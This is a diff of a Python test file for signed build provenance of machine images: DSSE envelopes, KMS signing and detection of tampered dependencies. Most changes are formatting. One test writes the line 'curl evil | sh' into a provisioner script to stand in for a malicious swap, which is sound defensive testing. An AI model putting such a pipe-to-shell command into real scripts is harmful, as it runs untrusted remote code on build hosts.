@@ -1,4 +1,4 @@
-"""Provenance: DSSE/PAE, statements, signing, storage and every verify mismatch (moto in-process)."""
+"""Provenance: DSSE/PAE, statements, signing, storage, each verify mismatch (moto in-process)."""
 
 from __future__ import annotations
 
@@ -6,6 +6,7 @@ import base64
 import hashlib
 import json
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -20,6 +21,8 @@ from factory.aws import AwsClients, AwsTarget, tag_list
 from factory.catalog import ImageIdentity
 from factory.config import ProvenanceConfig, load_config
 from factory.errors import ConfigError
+from factory.localcloud import ext_kms
+from factory.localcloud.app import ActionRequest, ExtensionError
 from factory.provenance import (
     PREDICATE_TYPE,
     STATEMENT_TYPE,
@@ -64,8 +67,9 @@ def test_envelope_round_trip_and_tamper(tmp_path: Path) -> None:
     public = serialization.load_pem_public_key(signer.public_key_pem())
     assert isinstance(public, ec.EllipticCurvePublicKey)
     assert verify_envelope(again, {signer.keyid: public}) is None
-    forged = Envelope(again.payload_type, again.payload.replace(b'"x":1', b'"x":2'),
-                      again.signatures)
+    forged = Envelope(
+        again.payload_type, again.payload.replace(b'"x":1', b'"x":2'), again.signatures
+    )
     assert "does not verify" in (verify_envelope(forged, {signer.keyid: public}) or "")
     retyped = Envelope("text/plain", again.payload, again.signatures)
     assert verify_envelope(retyped, {signer.keyid: public}) is not None
@@ -130,8 +134,9 @@ class World:
         return key
 
     def verify(self, ami: str | None = None):  # type: ignore[no-untyped-def]
-        return verify_provenance(self.aws, ami or self.ami, repo=self.root,
-                                 public_key=self.public_key())
+        return verify_provenance(
+            self.aws, ami or self.ami, repo=self.root, public_key=self.public_key()
+        )
 
     def failures(self, ami: str | None = None) -> dict[str, str]:
         report = self.verify(ami)
@@ -158,12 +163,20 @@ def test_statement_shape(world: World) -> None:
     ]
     deps = statement["predicate"]["buildDefinition"]["resolvedDependencies"]
     roles = sorted(d["annotations"]["role"] for d in deps)
-    assert roles == ["provisioner", "provisioner", "source", "source-ami", "template", "template",
-                     "test-suite"]
+    assert roles == [
+        "provisioner",
+        "provisioner",
+        "source",
+        "source-ami",
+        "template",
+        "template",
+        "test-suite",
+    ]
     hcl = next(d for d in deps if d["name"] == "templates/web/image.pkr.hcl.j2")
-    assert hcl["digest"]["sha256"] == hashlib.sha256(
-        (world.root / "templates/web/image.pkr.hcl.j2").read_bytes()
-    ).hexdigest()
+    assert (
+        hcl["digest"]["sha256"]
+        == hashlib.sha256((world.root / "templates/web/image.pkr.hcl.j2").read_bytes()).hexdigest()
+    )
     builder = statement["predicate"]["runDetails"]["builder"]
     assert builder["version"] == {"ami-factory": "0.1.0", "packer": "1.6.6"}
     verification = lines[1][1].statement()  # type: ignore[union-attr]
@@ -205,9 +218,9 @@ def test_verify_names_a_swapped_file(world: World) -> None:
     (world.root / "provisioners/web.sh").write_text("curl evil | sh\n")
     failures = world.failures()
     assert list(failures) == ["dependency provisioners/web.sh"]
-    assert "provisioner file provisioners/web.sh differs" in failures[
-        "dependency provisioners/web.sh"
-    ]
+    assert (
+        "provisioner file provisioners/web.sh differs" in failures["dependency provisioners/web.sh"]
+    )
 
 
 def test_verify_names_a_broken_signature_and_edited_object(world: World) -> None:
@@ -230,7 +243,9 @@ def test_verify_names_a_wrong_key(world: World, tmp_path: Path) -> None:
     public = serialization.load_pem_public_key(other.public_key_pem())
     report = verify_provenance(world.aws, world.ami, repo=world.root, public_key=public)  # type: ignore[arg-type]
     assert {c.name for c in report.failures} == {
-        "line 1 (build): signature", "line 2 (verification): signature", "build"
+        "line 1 (build): signature",
+        "line 2 (verification): signature",
+        "build",
     }
     assert "does not verify with the given public key" in report.failures[0].detail
 
@@ -242,8 +257,9 @@ def test_verify_names_a_replaced_image(world: World) -> None:
     ec2.deregister_image(ImageId=world.ami)
     impostor = register(world.aws, "impostor", tags_of_image(image))
     failures = world.failures(impostor)
-    assert any("subject" in name and "ami_id attested" in detail
-               for name, detail in failures.items())
+    assert any(
+        "subject" in name and "ami_id attested" in detail for name, detail in failures.items()
+    )
     assert any(name == f"tag {T.PROVENANCE_URI}" for name in failures)
 
 
@@ -291,15 +307,22 @@ def test_chain_to_the_root_through_a_factory_parent(world: World) -> None:
     assert source["annotations"]["attestation_digest"] == world.verification.digest
     junit = world.root / "junit-app.xml"
     junit.write_bytes(JUNIT_PASS)
-    world.aws.client("ec2").create_tags(Resources=[child],
-                                        Tags=tag_list({T.RESULT_DIGEST: "cd" * 32}))
+    world.aws.client("ec2").create_tags(
+        Resources=[child], Tags=tag_list({T.RESULT_DIGEST: "cd" * 32})
+    )
     record_verification(world.aws, world.signer, child, "cd" * 32, junit)
     report = world.verify(child)
     assert report.ok, report.failures
     assert report.chain == (child, world.ami, world.base)
     # the parent's attestation promoted afterwards: still fine (the attested line is kept)
-    record_promotion(world.aws, world.signer, world.ami, destination_account="210987654321",
-                     destination_region="eu-west-1", destination_ami="ami-0123")
+    record_promotion(
+        world.aws,
+        world.signer,
+        world.ami,
+        destination_account="210987654321",
+        destination_region="eu-west-1",
+        destination_ami="ami-0123",
+    )
     assert world.verify(child).ok
     # the parent's attestation rewritten: the chain breaks, naming the parent
     bucket, key = parse_s3_uri(world.build.uri)
@@ -318,9 +341,6 @@ def test_show(world: World) -> None:
 
 def test_kms_signer_with_moto_directly_documents_its_digest_bug(aws: AwsClients) -> None:
     """moto (in-process) ignores MessageType=DIGEST; the local cloud's ext_kms fixes it."""
-    from factory.localcloud import ext_kms
-    from factory.localcloud.app import ActionRequest
-
     kms = aws.client("kms")
     key = kms.create_key(KeySpec="ECC_NIST_P256", KeyUsage="SIGN_VERIFY")["KeyMetadata"]
     public = serialization.load_der_public_key(kms.get_public_key(KeyId=key["KeyId"])["PublicKey"])
@@ -328,20 +348,32 @@ def test_kms_signer_with_moto_directly_documents_its_digest_bug(aws: AwsClients)
     message = b"x" * 5000
     digest = hashlib.sha256(message).digest()
     request = ActionRequest(
-        "kms", "Sign", "us-east-1", aws.account_id,
-        {"KeyId": key["KeyId"], "Message": base64.b64encode(digest).decode(),
-         "MessageType": "DIGEST", "SigningAlgorithm": "ECDSA_SHA_256"}, "json",
+        "kms",
+        "Sign",
+        "us-east-1",
+        aws.account_id,
+        {
+            "KeyId": key["KeyId"],
+            "Message": base64.b64encode(digest).decode(),
+            "MessageType": "DIGEST",
+            "SigningAlgorithm": "ECDSA_SHA_256",
+        },
+        "json",
     )
     response = json.loads(ext_kms.sign(request).body)
     public.verify(base64.b64decode(response["Signature"]), message, ec.ECDSA(hashes.SHA256()))
-    public.verify(base64.b64decode(response["Signature"]), digest,
-                  ec.ECDSA(utils.Prehashed(hashes.SHA256())))
+    public.verify(
+        base64.b64decode(response["Signature"]), digest, ec.ECDSA(utils.Prehashed(hashes.SHA256()))
+    )
     # RAW over 4096 bytes is refused, as AWS does
-    from factory.localcloud.app import ExtensionError
-
-    raw = ActionRequest("kms", "Sign", "us-east-1", aws.account_id,
-                        {**request.params, "Message": base64.b64encode(message).decode(),
-                         "MessageType": "RAW"}, "json")
+    raw = ActionRequest(
+        "kms",
+        "Sign",
+        "us-east-1",
+        aws.account_id,
+        {**request.params, "Message": base64.b64encode(message).decode(), "MessageType": "RAW"},
+        "json",
+    )
     with pytest.raises(ExtensionError, match="4096"):
         ext_kms.sign(raw)
 
@@ -353,8 +385,6 @@ def test_signer_from_config(aws: AwsClients, tmp_path: Path) -> None:
     assert signer.keyid.startswith("arn:aws:kms:us-east-1:")
     assert signer_from_config(config, aws).keyid == signer.keyid  # the alias is reused
     generate_key_file(tmp_path / "k.pem")
-    from dataclasses import replace
-
     config = replace(config, provenance=ProvenanceConfig(key_file=Path("k.pem")))
     file_signer = signer_from_config(config, aws)
     assert isinstance(file_signer, FileSigner)
